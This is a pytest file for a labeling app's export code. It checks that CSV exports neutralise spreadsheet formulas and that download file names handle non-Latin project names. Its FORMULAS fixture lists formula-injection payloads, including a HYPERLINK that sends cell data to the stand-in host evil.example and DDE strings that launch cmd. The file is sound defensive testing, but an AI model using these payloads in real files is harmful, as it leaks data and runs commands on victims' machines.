"""Exports are safe to open and to download: no spreadsheet formulas from rater text, any project name."""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from urllib.parse import unquote

import pytest
from helpers import fresh_database
from sqlalchemy.orm import Session

from labeler.db import make_engine
from labeler.reports.export import csv_cell, export_disposition, serialize

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-1, -2.5, 0, 3, "-3", "+1.5", "-2e-3", "acne", "", None, "a=b", "L70.0"]
)
def test_numbers_and_plain_text_are_left_as_they_are(value):
    """A negative number is data, not a formula: numeric cells and numeric-looking text stay."""
    assert csv_cell(value) == value


def test_serialize_neutralises_csv_only():
    records = [{"id": 1, "grade": -1.5, "text": FORMULAS[0], "tags": ["=x", "y"]}]
    rows = list(csv.reader(io.StringIO("".join(serialize(records, "csv")))))
    assert rows[1] == ["1", "-1.5", "'" + FORMULAS[0], "'=x;y"]
    line = json.loads("".join(serialize(records, "jsonl")))
    assert line["text"] == FORMULAS[0] and line["tags"] == ["=x", "y"] and line["grade"] == -1.5


def test_rater_free_text_in_a_real_export(client, build_project):
    b = build_project(
        "quality",
        [[{"decision": "lesion", "icd10_missing_text": FORMULAS[0]}, "no_skin"]],
    )
    base = f"/api/v1/projects/{b.project.id}/export?kind=raw"
    text = client.get(base + "&format=csv", headers=b.headers).get_data(as_text=True)
    cells = [row["icd10_missing_text"] for row in csv.DictReader(io.StringIO(text))]
    assert "'" + FORMULAS[0] in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells if c)
    lines = client.get(base + "&format=jsonl", headers=b.headers).get_data(as_text=True)
    assert FORMULAS[0] in [json.loads(x)["icd10_missing_text"] for x in lines.splitlines()]


class _P:
    def __init__(self, name, pid=7):
        self.name, self.id = name, pid


@pytest.mark.parametrize(
    "name, ascii_name",
    [
        ("Acne 2026", "Acne_2026-fused.csv"),
        ("Café Akné", "Cafe_Akne-fused.csv"),
        ("Акне тест", "project-7-fused.csv"),
        ("痤疮", "project-7-fused.csv"),
        ('a"b;c\\d', "a_b_c_d-fused.csv"),
    ],
)
def test_content_disposition_is_latin1_with_the_utf8_name_beside(name, ascii_name):
    header = export_disposition(_P(name), "fused", "csv")
    header.encode("latin-1")  # what gunicorn requires of every header
    assert header.isascii()
    plain, star = header.split("; filename*=")
    assert plain == f'attachment; filename="{ascii_name}"'
    assert star.startswith("UTF-8''")
    expected = "".join(ch if ch.isalnum() or ch in "-_" else "_" for ch in name) + "-fused.csv"
    assert unquote(star[len("UTF-8''") :]) == expected


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.mark.parametrize("name", ["Акне тест", "痤疮"])
def test_export_of_a_non_latin1_project_through_gunicorn(tmp_path, name):
    """gunicorn refuses a header it cannot encode as Latin-1 (the 500 this used to be)."""
    from labeler.auth.models import Role
    from labeler.auth.services import add_user, create_token
    from labeler.projects.services import create_project

    pg_url = os.environ.get("LABELER_TEST_DATABASE_URL")
    with fresh_database(tmp_path, pg_url) as url:
        engine = make_engine(url)
        with Session(engine) as s:
            lead = add_user(s, None, "lead@gunicorn.test", "Lead", {Role.lead})
            project = create_project(s, lead, name, "quality")
            _t, raw = create_token(s, lead, lead, "t")
            project_id = project.id
            s.commit()
        engine.dispose()
        port = _free_port()
        env = {
            **os.environ,
            "LABELER_ENV": "test",
            "LABELER_AUTH": "dev",
            "LABELER_DATABASE_URL": url,
            "LABELER_SECRET_KEY": "k" * 40,
            "LABELER_INSTANCE_PATH": str(tmp_path / "instance"),
            "LABELER_STORAGE_PATH": str(tmp_path / "files"),
            "LABELER_DOTENV": str(tmp_path / "no.env"),
        }
        server = subprocess.Popen(
            [sys.executable, "-m", "gunicorn", "-w", "1", "-b", f"127.0.0.1:{port}", "wsgi:app"],
            cwd=ROOT,
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
        )
        try:
            request = urllib.request.Request(
                f"http://127.0.0.1:{port}/api/v1/projects/{project_id}/export?format=csv",
                headers={"Authorization": f"Bearer {raw}"},
            )
            deadline = time.monotonic() + 30
            while True:
                try:
                    with urllib.request.urlopen(request, timeout=10) as resp:
                        status, header = resp.status, resp.headers["Content-Disposition"]
                        body = resp.read().decode()
                    break
                except urllib.error.HTTPError as exc:  # a 500 (the old header) must fail below
                    status, header, body = exc.code, None, exc.read().decode()
                    break
                except (urllib.error.URLError, ConnectionError):  # not listening yet
                    if time.monotonic() > deadline or server.poll() is not None:
                        raise
                    time.sleep(0.2)
        finally:
            server.terminate()
            _out, err = server.communicate(timeout=30)
    assert status == 200, err.decode()[-2000:]
    assert header == f'attachment; filename="project-{project_id}-fused.csv"; ' + (
        "filename*=UTF-8''" + urllib.request.quote(name.replace(" ", "_") + "-fused.csv", safe="")
    )
    assert body == ""  # no image yet: an empty export, delivered


@pytest.mark.parametrize("name", ["Acne study", "痤疮"])
def test_every_revision_export_has_its_own_file_name(name):
    plain = export_disposition(_P(name), "raw", "csv")
    every = export_disposition(_P(name), "raw", "csv", revisions=True)
    assert plain != every
    assert every.split("; filename*=")[0].endswith('-raw-all-revisions.csv"')
    assert unquote(every.split("UTF-8''")[1]).endswith("-raw-all-revisions.csv")
